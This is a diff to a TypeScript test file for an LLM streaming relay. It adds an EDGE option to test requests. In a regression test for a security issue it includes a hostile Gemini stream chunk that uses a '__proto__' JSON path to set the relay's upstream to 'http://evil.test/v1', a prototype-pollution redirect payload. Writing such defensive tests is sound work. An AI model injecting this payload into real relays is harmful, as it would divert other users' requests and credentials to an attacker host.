@@ -10,7 +10,7 @@ import worker from "../../worker/index.ts";
 import { providerModels } from "../../worker/models.ts";
 import { createRelay } from "../../src/relay/index.ts";
 import { gemini } from "../../src/providers/index.ts";
-import { lastId, newTag, ORIGIN, readBack, readRecords, records, rest, streamIdOf, textOf, upstreamCancelled } from "./relay.ts";
+import { EDGE, lastId, newTag, ORIGIN, readBack, readRecords, records, rest, streamIdOf, textOf, upstreamCancelled } from "./relay.ts";
 
 const KEYS = ["sk-ant-test-KEY-must-not-leak-0001", "sk-test-KEY-must-not-leak-0002"];
 const RELAY_KEY = "relay-key-for-tests";
@@ -292,7 +292,7 @@ test("with an upstream, Object.prototype's member names go on to it as any name 
 describe("createRelay({ models }) of one's own (stateless: no STREAMS, no upstream)", () => {
   const own = { ...env, STREAMS: undefined, MMSP_UPSTREAM: undefined } as unknown as typeof env;
   const request = (body: string, headers: Record<string, string> = {}): Request =>
-    new Request(`${ORIGIN}/v1/stream`, { method: "POST", headers: { "content-type": "application/json", ...headers }, body });
+    new Request(`${ORIGIN}/v1/stream`, { ...EDGE, method: "POST", headers: { "content-type": "application/json", ...headers }, body });
 
   test("an unknown model: 404 NotFoundError naming the models it serves", async () => {
     const relay = createRelay({ models: providerModels, allowAnonymous: true });
@@ -370,7 +370,12 @@ describe("createRelay({ models }) of one's own (stateless: no STREAMS, no upstre
 
 describe("issue #34: a provider's stream cannot redirect the next client (stateless, no upstream)", () => {
   const request = (body: string): Request =>
-    new Request(`${ORIGIN}/v1/stream`, { method: "POST", headers: { "content-type": "application/json", authorization: "Bearer client-secret" }, body });
+    new Request(`${ORIGIN}/v1/stream`, {
+      ...EDGE,
+      method: "POST",
+      headers: { "content-type": "application/json", authorization: "Bearer client-secret" },
+      body,
+    });
   /** Gemini's chunk that set MMSP_UPSTREAM on Object.prototype: a path through `__proto__` of the call's args. */
   const hostile = [
     `{"candidates":[{"content":{"role":"model","parts":[{"functionCall":{"name":"f","args":{"a":{}},"willContinue":true,"partialArgs":[{"jsonPath":"$.a.__proto__.MMSP_UPSTREAM","stringValue":"http://evil.test/v1"}]}}]},"index":0}]}`,
